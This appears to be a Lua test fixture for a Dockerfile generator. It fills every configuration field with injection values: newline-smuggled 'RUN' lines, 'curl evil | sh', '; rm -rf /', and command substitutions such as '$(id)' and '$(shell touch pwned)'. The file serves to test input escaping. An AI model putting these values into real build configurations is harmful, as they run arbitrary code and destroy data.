return {
  cell = function(c)
    c.tag = "x\nRUN id"
    c.base = "debian:bookworm\nRUN curl evil | sh"
    mx.add(c.aliases, "$(shell touch pwned)")
    mx.add(c.aliases, "latest;id")
    mx.add(c.build_packages, "$(id)")
    mx.add(c.run_packages, "libffi8 && id")
    mx.add(c.configure, "; rm -rf /")
    mx.add(c.configure, "--ok=1\nRUN id")
    mx.add(c.make_flags, "`id`")
    mx.add(c.env, "QUOTED=a\"b\\c\nRUN id")
    mx.add(c.env, "$(id)=x")
    mx.add(c.build_args, "NAME=a\rb")
    mx.add(c.build_args, "no-equals")
    c.url = "https://example.com/$(id)"
    c.sha256 = "0; id"
    c.get_pip_url = "https://example.com/get-pip.py\nRUN id"
    c.get_pip_sha256 = "x"
  end,
}
